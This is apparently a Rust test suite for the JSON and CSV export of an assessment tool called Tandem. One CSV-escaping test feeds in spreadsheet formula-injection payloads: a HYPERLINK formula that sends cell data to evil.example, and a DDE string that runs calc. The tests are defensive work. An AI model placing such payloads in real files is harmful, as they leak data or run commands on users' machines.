//! Exports a respondent can keep: JSON that imports again exactly, with a
//! specific message for every way an imported file can be wrong, and CSV that
//! a spreadsheet opens without ever running a cell as a formula.

mod common;

use common::{mini_bank, mini_bank_json, ALL_ANSWERS};
use proptest::prelude::*;
use serde_json::{json, Value};
use tandem::assessment::export::{
    csv_field, from_json, to_csv, to_json, ImportError, FORMAT, MAX_IMPORT_BYTES, VERSION,
};
use tandem::assessment::{Answer, Bank, Mode, Progress, Role, Stage, StatementId};

/// Progress built the way a respondent builds it: `picks[i]` answers the
/// mode's i-th statement (falling back to "Don't know" where "Not applicable"
/// is not offered), then `steps` presses of Next and `backs` of Back.
fn journey(
    bank: &Bank,
    mode: Mode,
    role: Option<Role>,
    team: &str,
    picks: &[Option<Answer>],
    steps: usize,
    backs: usize,
) -> Progress {
    let mut progress = Progress::new(mode);
    if let Some(role) = role {
        progress.choose_role(role);
    }
    progress.name_team(team);
    let ids: Vec<StatementId> = bank
        .dimensions_in(mode)
        .flat_map(|d| &d.statements)
        .map(|s| s.id.clone())
        .collect();
    for (id, pick) in ids.iter().zip(picks) {
        if let Some(answer) = *pick {
            if !progress.answer(bank, id, answer) {
                assert!(progress.answer(bank, id, Answer::DontKnow));
            }
        }
    }
    for _ in 0..steps {
        let _ = progress.next(bank);
    }
    for _ in 0..backs {
        progress.back(bank);
    }
    progress
}

/// A respondent who answered everything "Agree" and reached the results.
fn finished(bank: &Bank, mode: Mode) -> Progress {
    let picks = vec![Some(Answer::Agree); 100];
    let progress = journey(bank, mode, Some(Role::Hr), "Ops", &picks, 100, 0);
    assert_eq!(progress.stage, Stage::Results);
    progress
}

/// The export as a JSON value, to edit in tests.
fn export_value(bank: &Bank, progress: &Progress) -> Value {
    serde_json::from_str(&to_json(bank, progress)).expect("an export is JSON")
}

fn import_value(bank: &Bank, value: &Value) -> Result<Progress, ImportError> {
    from_json(bank, &value.to_string())
}

fn assert_damaged(result: Result<Progress, ImportError>, case: &str) {
    match result {
        Err(ImportError::Damaged { reason }) => assert!(!reason.is_empty(), "{case}"),
        other => panic!("{case}: expected Damaged, got {other:?}"),
    }
}

// ---------------------------------------------------------------- JSON export

#[test]
fn an_export_has_the_documented_shape() {
    let bank = mini_bank();
    let progress = finished(&bank, Mode::Quick);
    let text = to_json(&bank, &progress);
    assert!(text.contains("\n  \"format\""), "pretty-printed");
    let value: Value = serde_json::from_str(&text).unwrap();

    assert_eq!(value["format"], FORMAT);
    assert_eq!(value["version"], VERSION);
    assert_eq!(value["bank"]["id"], "mini");
    assert_eq!(value["bank"]["version"], 1);
    assert_eq!(value["bank"]["fingerprint"], bank.fingerprint().to_string());
    assert_eq!(value["progress"], serde_json::to_value(&progress).unwrap());
    // All "Agree" gives 63 on alpha (reverse statement counts 25) and 75 on beta.
    assert_eq!(
        value["scores"],
        json!([
            {"dimension": "alpha", "name": "Alpha", "score": 63, "level": 4,
             "level_name": "Collaborating", "counted": 4, "total": 4},
            {"dimension": "beta", "name": "Beta", "score": 75, "level": 4,
             "level_name": "Collaborating", "counted": 2, "total": 2}
        ])
    );
    assert_eq!(
        value["overall"],
        json!({"score": 69, "level": 4, "level_name": "Collaborating"})
    );
}

#[test]
fn an_export_without_enough_answers_says_so_with_nulls() {
    let bank = mini_bank();
    let picks = [
        Some(Answer::Agree),
        Some(Answer::DontKnow),
        Some(Answer::DontKnow),
    ];
    let progress = journey(&bank, Mode::Full, Some(Role::Other), "", &picks, 0, 0);
    let value = export_value(&bank, &progress);
    assert_eq!(value["scores"].as_array().unwrap().len(), 4, "full mode");
    assert_eq!(
        value["scores"][0],
        json!({"dimension": "alpha", "name": "Alpha", "score": null, "level": null,
               "level_name": null, "counted": 1, "total": 4})
    );
    assert_eq!(value["overall"], Value::Null);
    assert_eq!(from_json(&bank, &to_json(&bank, &progress)), Ok(progress));
}

#[test]
fn import_ignores_the_scores_written_for_people() {
    let bank = mini_bank();
    let progress = finished(&bank, Mode::Quick);
    let mut value = export_value(&bank, &progress);
    value["scores"] = json!("edited by hand");
    value["overall"] = json!({"score": 100, "level": 5});
    assert_eq!(import_value(&bank, &value), Ok(progress.clone()));
    let object = value.as_object_mut().unwrap();
    object.remove("scores");
    object.remove("overall");
    assert_eq!(import_value(&bank, &value), Ok(progress));
}

#[test]
fn a_byte_order_mark_from_an_editor_is_read_past() {
    let bank = mini_bank();
    let progress = finished(&bank, Mode::Full);
    let text = format!("\u{feff}{}", to_json(&bank, &progress));
    assert_eq!(from_json(&bank, &text), Ok(progress));
}

#[test]
fn imported_progress_is_fitted_to_the_bank() {
    let bank = mini_bank();
    let progress = finished(&bank, Mode::Quick);
    let mut value = export_value(&bank, &progress);
    value["progress"]["answers"]["ghost.one"] = json!("agree");
    value["progress"]["answers"]["gamma.one"] = json!("agree");
    value["progress"]["answers"]["alpha.one"] = json!("not-applicable");
    value["progress"]["team"] = json!(format!("  Ops\u{7}{}", "x".repeat(200)));
    let imported = import_value(&bank, &value).unwrap();
    assert!(!imported
        .answers
        .contains_key(&StatementId::from("ghost.one")));
    assert!(!imported
        .answers
        .contains_key(&StatementId::from("gamma.one")));
    assert!(!imported
        .answers
        .contains_key(&StatementId::from("alpha.one")));
    assert_eq!(imported.stage, Stage::Section(0), "alpha now has a gap");
    assert_eq!(
        imported.team,
        format!("Ops{}", "x".repeat(55)),
        "cleaned, cut to 60, trimmed"
    );
}

// -------------------------------------------------------------- import errors

#[test]
fn an_oversized_file_is_refused_before_it_is_read() {
    let bank = mini_bank();
    let huge = format!("{{\"pad\": \"{}\"}}", "x".repeat(MAX_IMPORT_BYTES));
    let error = from_json(&bank, &huge).unwrap_err();
    assert_eq!(error, ImportError::TooLarge { bytes: huge.len() });
    assert!(error.to_string().contains("1025 KB"), "{error}");
    // Even garbage that large is refused for its size, not its syntax.
    let garbage = "\u{0}".repeat(MAX_IMPORT_BYTES + 1);
    assert!(matches!(
        from_json(&bank, &garbage),
        Err(ImportError::TooLarge { .. })
    ));
}

#[test]
fn a_file_that_is_not_json_says_where_reading_stopped() {
    let bank = mini_bank();
    assert_eq!(
        from_json(&bank, "{\n  \"format\": tandem\n}"),
        Err(ImportError::NotJson {
            line: 2,
            column: 14
        })
    );
    for text in [
        "",
        "   ",
        "hello",
        "format,version\r\n1,2",
        "{\"a\":1}}",
        "\u{0}",
    ] {
        assert!(
            matches!(from_json(&bank, text), Err(ImportError::NotJson { .. })),
            "{text:?}"
        );
    }
    let deep = "[".repeat(10_000);
    assert!(matches!(
        from_json(&bank, &deep),
        Err(ImportError::NotJson { .. })
    ));
}

#[test]
fn a_truncated_export_is_not_json() {
    let bank = mini_bank();
    let text = to_json(&bank, &finished(&bank, Mode::Full));
    let half = &text[..text.len() / 2];
    match from_json(&bank, half) {
        Err(ImportError::NotJson { line, .. }) => {
            assert_eq!(line, half.lines().count(), "stops at the end of the text")
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn json_that_is_not_a_tandem_export_is_named_as_such() {
    let bank = mini_bank();
    for text in [
        "{}",
        "[]",
        "null",
        "42",
        "\"tandem-result\"",
        r#"{"format":"other"}"#,
        r#"{"format":"tandem-results","version":1}"#,
        r#"{"format":7,"version":1}"#,
        r#"[{"format":"tandem-result","version":1}]"#,
        r#"{"schema":1,"bank":"mini","progress":{}}"#,
    ] {
        assert_eq!(
            from_json(&bank, text),
            Err(ImportError::NotTandem),
            "{text}"
        );
    }
}

#[test]
fn an_export_from_a_newer_version_is_recognised_whatever_its_shape() {
    let bank = mini_bank();
    assert_eq!(
        from_json(
            &bank,
            r#"{"format":"tandem-result","version":3,"shape":["unknown"]}"#
        ),
        Err(ImportError::Newer { version: 3 })
    );
    assert_eq!(
        from_json(&bank, r#"{"format":"tandem-result","version":99999999999}"#),
        Err(ImportError::Newer { version: u32::MAX })
    );
    let message = ImportError::Newer { version: 2 }.to_string();
    assert!(message.contains("newer version of Tandem"), "{message}");
    assert!(message.contains("export again"), "{message}");
}

#[test]
fn an_export_for_another_bank_is_refused() {
    let mini = mini_bank();
    let standard = Bank::standard();
    let text = to_json(standard, &finished(standard, Mode::Quick));
    assert_eq!(
        from_json(&mini, &text),
        Err(ImportError::OtherBank {
            id: standard.id().to_owned()
        })
    );

    // Same id, different content: the fingerprint tells them apart.
    let mut edited = mini_bank_json();
    edited["dimensions"][0]["statements"][0]["text"] = json!("A1, reworded");
    let edited = Bank::parse(&edited.to_string()).unwrap();
    assert_eq!(edited.id(), mini.id());
    let text = to_json(&edited, &finished(&edited, Mode::Quick));
    let error = from_json(&mini, &text).unwrap_err();
    assert_eq!(error, ImportError::OtherBank { id: "mini".into() });
    assert!(error.to_string().contains("\"mini\""), "{error}");

    // A hostile id is quoted short and without control characters.
    let mut value = export_value(&mini, &finished(&mini, Mode::Quick));
    value["bank"]["id"] = json!(format!("\u{1b}[31m{}", "y".repeat(5000)));
    match import_value(&mini, &value) {
        Err(ImportError::OtherBank { id }) => {
            assert!(id.chars().count() <= 161, "{}", id.len());
            assert!(!id.contains('\u{1b}'));
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_damaged_export_is_refused_with_a_reason() {
    let bank = mini_bank();
    let good = export_value(&bank, &finished(&bank, Mode::Quick));
    type Edit = fn(&mut Value);
    let edits: [(&str, Edit); 16] = [
        ("version missing", |v| {
            v.as_object_mut().unwrap().remove("version");
        }),
        ("version as text", |v| v["version"] = json!("1")),
        ("version zero", |v| v["version"] = json!(0)),
        ("version negative", |v| v["version"] = json!(-1)),
        ("version fractional", |v| v["version"] = json!(1.5)),
        ("bank missing", |v| {
            v.as_object_mut().unwrap().remove("bank");
        }),
        ("bank as text", |v| v["bank"] = json!("mini")),
        ("fingerprint missing", |v| {
            v["bank"].as_object_mut().unwrap().remove("fingerprint");
        }),
        ("fingerprint as number", |v| {
            v["bank"]["fingerprint"] = json!(12)
        }),
        ("fingerprint not hex", |v| {
            v["bank"]["fingerprint"] = json!("zzzzzzzz")
        }),
        ("fingerprint too long", |v| {
            v["bank"]["fingerprint"] = json!("+0000000a")
        }),
        ("progress missing", |v| {
            v.as_object_mut().unwrap().remove("progress");
        }),
        ("progress as list", |v| v["progress"] = json!([])),
        ("mode unknown", |v| {
            v["progress"]["mode"] = json!("sideways")
        }),
        ("answers as text", |v| {
            v["progress"]["answers"] = json!("agree")
        }),
        ("stage missing", |v| {
            v["progress"].as_object_mut().unwrap().remove("stage");
        }),
    ];
    for (case, edit) in edits {
        let mut value = good.clone();
        edit(&mut value);
        assert_damaged(import_value(&bank, &value), case);
    }
    let wrong_types = [
        ("mode", json!(5)),
        ("role", json!(true)),
        ("team", json!(["a"])),
        ("answers", json!({"alpha.one": "very much"})),
        ("stage", json!({"section": -1})),
    ];
    for (field, wrong) in wrong_types {
        let mut value = good.clone();
        value["progress"][field] = wrong;
        assert_damaged(import_value(&bank, &value), field);
    }
}

#[test]
fn a_damaged_reason_says_where_the_problem_is() {
    let bank = mini_bank();
    let text = to_json(&bank, &finished(&bank, Mode::Quick))
        .replace("\"mode\": \"quick\"", "\"mode\": \"sideways\"");
    match from_json(&bank, &text) {
        Err(ImportError::Damaged { reason }) => {
            assert!(reason.contains("sideways"), "{reason}");
            assert!(reason.contains("line"), "{reason}");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn every_error_message_says_what_is_wrong_and_what_to_do() {
    let errors = [
        ImportError::TooLarge { bytes: 5_000_000 },
        ImportError::NotJson { line: 3, column: 7 },
        ImportError::NotTandem,
        ImportError::Newer { version: 4 },
        ImportError::OtherBank { id: "acme".into() },
        ImportError::Damaged {
            reason: "missing field `stage`".into(),
        },
    ];
    let advice = [
        "Choose",
        "export again",
        "Export it again",
        "Update",
        "take the assessment",
    ];
    for error in errors {
        let message = error.to_string();
        assert!(message.ends_with('.'), "{message}");
        assert!(
            advice.iter().any(|a| message.contains(a)),
            "no advice in: {message}"
        );
        let _: &dyn std::error::Error = &error;
    }
    assert!(ImportError::TooLarge { bytes: 5_000_000 }
        .to_string()
        .contains("4883 KB"));
    assert!(ImportError::NotJson { line: 3, column: 7 }
        .to_string()
        .contains("line 3, column 7"));
}

// ----------------------------------------------------------------------- CSV

/// Reads CSV back per RFC 4180, so tests check cells rather than bytes.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') => {
                assert_eq!(chars.next(), Some('\n'), "rows end in CRLF");
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, '\n') => panic!("bare LF outside quotes"),
            (false, c) => cell.push(c),
        }
    }
    assert!(!quoted, "unterminated quote");
    assert!(cell.is_empty() && row.is_empty(), "last row ends in CRLF");
    rows
}

/// Reads a CSV export, which starts with a byte-order mark so that Excel
/// reads it as UTF-8.
fn parse_export(csv: &str) -> Vec<Vec<String>> {
    let body = csv
        .strip_prefix('\u{feff}')
        .expect("a byte-order mark for Excel");
    parse_csv(body)
}

const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

#[test]
fn csv_cells_that_could_be_formulas_are_neutralised() {
    let cases = [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "\"'\r=1\""),
        ("Northern region", "Northern region"),
        ("a=b", "a=b"),
        ("1-2", "1-2"),
        ("'quoted already", "'quoted already"),
        ("", ""),
    ];
    for (value, expected) in cases {
        assert_eq!(csv_field(value), expected, "{value:?}");
    }
}

#[test]
fn csv_cells_are_quoted_per_rfc_4180() {
    let cases = [
        ("North, South", "\"North, South\""),
        ("say \"hi\"", "\"say \"\"hi\"\"\""),
        ("two\nlines", "\"two\nlines\""),
        ("two\r\nlines", "\"two\r\nlines\""),
        // Neutralised and quoted: the quote mark goes inside the quotes.
        (
            "=HYPERLINK(\"http://x\",\"y\")",
            "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"",
        ),
        ("-1,2", "\"'-1,2\""),
    ];
    for (value, expected) in cases {
        assert_eq!(csv_field(value), expected, "{value:?}");
    }
}

#[test]
fn csv_from_untrusted_text_never_starts_a_cell_with_a_formula() {
    let hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    let mut json = mini_bank_json();
    json["dimensions"][0]["name"] = json!("@SUM(1+1)");
    json["dimensions"][0]["statements"][0]["text"] = json!(hyperlink);
    json["dimensions"][0]["statements"][1]["text"] = json!("+cmd|' /C calc'!A0");
    // A bank's text is one line (control characters are refused), so line
    // breaks in cells are covered by `csv_cells_are_quoted_per_rfc_4180`.
    json["dimensions"][1]["statements"][0]["text"] = json!("-2+3, and \"more\" =1");
    json["levels"][3]["name"] = json!("=1+1");
    let bank = Bank::parse(&json.to_string()).unwrap();
    let picks = vec![Some(Answer::Agree); 10];
    let progress = journey(&bank, Mode::Full, Some(Role::Hr), hyperlink, &picks, 100, 0);
    assert_eq!(progress.team, hyperlink, "the label survives cleaning");

    let csv = to_csv(&bank, &progress);
    let rows = parse_export(&csv);
    let mut seen_hyperlink = 0;
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(FORMULA_STARTS),
                "unescaped cell: {cell:?}"
            );
            if cell == &format!("'{hyperlink}") {
                seen_hyperlink += 1;
            }
        }
    }
    // The team label on every data row, plus the statement text once.
    assert_eq!(seen_hyperlink, rows.len() - 1 + 1);
    assert!(rows.iter().any(|r| r[1] == "'@SUM(1+1)"));
    assert!(rows.iter().any(|r| r[3] == "'-2+3, and \"more\" =1"));
}

#[test]
fn csv_has_a_header_then_one_row_per_dimension_and_statement_then_overall() {
    for bank in [&mini_bank(), Bank::standard()] {
        for mode in [Mode::Quick, Mode::Full] {
            let progress = finished(bank, mode);
            let csv = to_csv(bank, &progress);
            assert!(csv.ends_with("\r\n"));
            let rows = parse_export(&csv);
            let dimensions = bank.dimensions_in(mode).count();
            let statements = bank.statement_count(mode);
            assert_eq!(rows.len(), 1 + dimensions + statements + 1, "{mode:?}");
            assert_eq!(
                rows[0],
                [
                    "row",
                    "dimension",
                    "statement_id",
                    "statement",
                    "answer",
                    "score",
                    "level",
                    "coverage",
                    "role",
                    "team"
                ]
            );
            assert!(rows.iter().all(|r| r.len() == rows[0].len()));
            let kinds = |kind: &str| rows.iter().filter(|r| r[0] == kind).count();
            assert_eq!(kinds("dimension"), dimensions);
            assert_eq!(kinds("statement"), statements);
            assert_eq!(kinds("overall"), 1);
            assert_eq!(rows.last().unwrap()[0], "overall");
        }
    }
}

#[test]
fn csv_rows_show_the_result() {
    let bank = mini_bank();
    let picks = [
        Some(Answer::Agree),
        Some(Answer::Agree),
        Some(Answer::Agree),
        Some(Answer::NotApplicable),
        Some(Answer::DontKnow),
    ];
    let progress = journey(&bank, Mode::Quick, Some(Role::Hr), "Ops", &picks, 0, 0);
    let rows = parse_export(&to_csv(&bank, &progress));
    let expected = [
        [
            "dimension",
            "Alpha",
            "",
            "",
            "",
            "58",
            "3 Cooperating",
            "3 of 4",
            "HR",
            "Ops",
        ],
        [
            "statement",
            "Alpha",
            "alpha.one",
            "A1",
            "Agree",
            "",
            "",
            "",
            "HR",
            "Ops",
        ],
        [
            "statement",
            "Alpha",
            "alpha.two",
            "A2",
            "Agree",
            "",
            "",
            "",
            "HR",
            "Ops",
        ],
        [
            "statement",
            "Alpha",
            "alpha.three",
            "A3",
            "Agree",
            "",
            "",
            "",
            "HR",
            "Ops",
        ],
        [
            "statement",
            "Alpha",
            "alpha.four",
            "A4",
            "Not applicable",
            "",
            "",
            "",
            "HR",
            "Ops",
        ],
        [
            "dimension",
            "Beta",
            "",
            "",
            "",
            "not enough answers",
            "",
            "0 of 2",
            "HR",
            "Ops",
        ],
        [
            "statement",
            "Beta",
            "beta.one",
            "B1",
            "Don't know",
            "",
            "",
            "",
            "HR",
            "Ops",
        ],
        [
            "statement",
            "Beta",
            "beta.two",
            "B2",
            "",
            "",
            "",
            "",
            "HR",
            "Ops",
        ],
        [
            "overall",
            "",
            "",
            "",
            "",
            "58",
            "3 Cooperating",
            "1 of 2",
            "HR",
            "Ops",
        ],
    ];
    assert_eq!(rows[1..], expected);
}

#[test]
fn csv_without_a_role_or_an_overall_score_leaves_those_cells_empty() {
    let bank = mini_bank();
    let progress = Progress::new(Mode::Quick);
    let rows = parse_export(&to_csv(&bank, &progress));
    let overall = rows.last().unwrap();
    assert_eq!(overall[5], "not enough answers");
    assert_eq!(overall[6], "");
    assert_eq!(overall[8], "");
}

// ----------------------------------------------------------------- properties

fn answer_picks() -> impl Strategy<Value = Vec<Option<Answer>>> {
    prop::collection::vec(
        prop::option::weighted(0.9, prop::sample::select(ALL_ANSWERS.to_vec())),
        0..60,
    )
}

fn any_role() -> impl Strategy<Value = Option<Role>> {
    prop::option::weighted(0.9, prop::sample::select(Role::ALL.to_vec()))
}

fn any_mode() -> impl Strategy<Value = Mode> {
    prop::sample::select(vec![Mode::Quick, Mode::Full])
}

/// A real export of a whole full assessment, to damage.
fn real_export() -> String {
    let bank = Bank::standard();
    let picks: Vec<_> = (0..60).map(|i| Some(ALL_ANSWERS[i % 7])).collect();
    let progress = journey(
        bank,
        Mode::Full,
        Some(Role::Leadership),
        "Région Nord, \"A\"",
        &picks,
        100,
        0,
    );
    to_json(bank, &progress)
}

proptest! {
    #[test]
    fn json_round_trips_on_the_mini_bank(
        mode in any_mode(),
        role in any_role(),
        team in ".{0,80}",
        picks in answer_picks(),
        steps in 0usize..8,
        backs in 0usize..3,
    ) {
        let bank = mini_bank();
        let progress = journey(&bank, mode, role, &team, &picks, steps, backs);
        prop_assert_eq!(from_json(&bank, &to_json(&bank, &progress)), Ok(progress));
    }

    #[test]
    fn json_round_trips_on_the_standard_bank(
        mode in any_mode(),
        role in any_role(),
        team in ".{0,80}",
        picks in answer_picks(),
        steps in 0usize..12,
        backs in 0usize..3,
    ) {
        let bank = Bank::standard();
        let progress = journey(bank, mode, role, &team, &picks, steps, backs);
        prop_assert_eq!(from_json(bank, &to_json(bank, &progress)), Ok(progress));
    }

    #[test]
    fn no_text_panics_the_importer(text in "(?s).{0,400}") {
        let _ = from_json(&mini_bank(), &text);
        let _ = from_json(Bank::standard(), &text);
    }

    #[test]
    fn no_json_value_panics_the_importer(
        format in prop::option::of(prop::sample::select(vec![json!(FORMAT), json!("x"), json!(1)])),
        version in prop::option::of(prop::sample::select(vec![json!(0), json!(1), json!(2), json!(-1), json!("1"), json!(null)])),
        bank_id in prop::sample::select(vec![json!("mini"), json!("other"), json!(3)]),
        progress in prop::sample::select(vec![json!({}), json!(null), json!({"mode":"quick","role":null,"team":"","answers":{},"stage":"about"})]),
    ) {
        let bank = mini_bank();
        let mut value = json!({
            "bank": {"id": bank_id, "version": 1, "fingerprint": bank.fingerprint().to_string()},
            "progress": progress,
        });
        if let Some(format) = format {
            value["format"] = format;
        }
        if let Some(version) = version {
            value["version"] = version;
        }
        let _ = import_value(&bank, &value);
    }

    #[test]
    fn no_damage_to_a_real_export_panics_the_importer(
        start in any::<prop::sample::Index>(),
        length in 0usize..200,
        duplicate in any::<bool>(),
    ) {
        let bank = Bank::standard();
        let chars: Vec<char> = real_export().chars().collect();
        let start = start.index(chars.len());
        let end = (start + length).min(chars.len());
        let mut damaged: Vec<char> = chars[..start].to_vec();
        if duplicate {
            damaged.extend_from_slice(&chars[start..end]);
            damaged.extend_from_slice(&chars[start..]);
        } else {
            damaged.extend_from_slice(&chars[end..]);
        }
        let text: String = damaged.into_iter().collect();
        if let Ok(progress) = from_json(bank, &text) {
            // Whatever survives the damage is still fitted to the bank.
            prop_assert_eq!(progress.clone().fitted_to(bank), progress);
        }
    }

    #[test]
    fn every_csv_cell_reads_back_as_its_text(value in "(?s).{0,40}") {
        let cell = csv_field(&value);
        let rows = parse_csv(&format!("{cell}\r\n"));
        prop_assert_eq!(rows.len(), 1);
        prop_assert_eq!(rows[0].len(), 1);
        let read = &rows[0][0];
        if value.starts_with(FORMULA_STARTS) {
            prop_assert_eq!(read, &format!("'{value}"));
        } else {
            prop_assert_eq!(read, &value);
        }
        prop_assert!(!read.starts_with(FORMULA_STARTS));
    }
}

#[test]
fn a_version_1_export_reads_for_the_standard_bank_only() {
    // Version 1 named the bank by its 32-bit mark, as 8 hex digits.
    let version_1 = |bank: &Bank| {
        let mut value = export_value(bank, &finished(bank, Mode::Quick));
        value["version"] = json!(1);
        value["bank"]["fingerprint"] = json!(format!("{:08x}", bank.short_mark()));
        value
    };
    let standard = Bank::standard();
    let progress = finished(standard, Mode::Quick);
    assert_eq!(
        import_value(standard, &version_1(standard)),
        Ok(progress.fitted_to(standard))
    );
    // A custom bank's 32-bit mark is too short to trust.
    let mini = mini_bank();
    let error = import_value(&mini, &version_1(&mini)).unwrap_err();
    assert_eq!(error, ImportError::Earlier);
    assert!(error.to_string().contains("export it again"), "{error}");
    // Version 2 names it by the 16-digit fingerprint, and only so.
    let mut short = export_value(&mini, &finished(&mini, Mode::Quick));
    short["bank"]["fingerprint"] = json!(format!("{:08x}", mini.short_mark()));
    assert_damaged(import_value(&mini, &short), "version 2 with 8 digits");
}
